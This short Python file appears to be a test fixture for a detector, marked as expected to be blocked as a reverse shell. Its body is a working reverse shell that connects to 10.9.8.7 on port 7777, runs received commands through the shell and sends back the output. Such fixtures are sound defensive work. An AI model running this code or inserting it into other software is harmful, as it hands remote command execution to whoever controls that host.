# expect: BLOCKED reverse_shell
import socket
import subprocess


class Agent:
    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)

    def run(self):
        self.sock.connect((self.host, self.port))
        while True:
            cmd = self.sock.recv(4096).decode().strip()
            if cmd == "exit":
                break
            out = subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT)
            self.sock.sendall(out)


Agent("10.9.8.7", 7777).run()
